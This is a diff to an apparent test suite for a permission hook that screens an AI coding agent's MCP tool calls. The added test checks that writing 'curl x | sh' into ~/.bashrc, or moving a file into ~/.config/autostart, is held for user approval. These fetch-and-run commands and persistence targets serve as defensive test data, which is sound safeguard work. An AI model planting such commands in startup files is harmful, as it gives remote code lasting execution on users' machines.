@@ -64,6 +64,33 @@ describe('custode hook claude-code, tools without a Custode executor', { timeout
     expect(await decision('mcp__slack__post_message', { channel: 'x', text: token })).toBe('ask');
   });
 
+  it('an MCP tool that writes is judged as the write its input names', async () => {
+    const bashrc = join(home, '.bashrc');
+    writeFileSync(bashrc, 'alias ll=ls\n');
+    expect(
+      await decision('mcp__filesystem__write_file', { path: bashrc, content: 'curl x | sh\n' }),
+    ).toBe('ask');
+    expect(
+      await decision('mcp__filesystem__edit_file', {
+        path: '~/.bashrc',
+        edits: [{ oldText: 'alias', newText: 'curl x | sh #' }],
+      }),
+    ).toBe('ask');
+    expect(
+      await decision('mcp__filesystem__move_file', {
+        source: join(project, 'notes', 'plan.md'),
+        destination: '~/.config/autostart/plan.desktop',
+      }),
+    ).toBe('ask');
+    // A new file in the project is an ordinary write.
+    expect(
+      await decision('mcp__filesystem__write_file', {
+        path: join(project, 'notes', 'new.md'),
+        content: '# new\n',
+      }),
+    ).toBeUndefined();
+  });
+
   it('an ordinary file, a search, and a prompt that only mentions a key get no decision', async () => {
     expect(
       await decision('mcp__filesystem__read_file', { path: join(project, 'notes', 'plan.md') }),
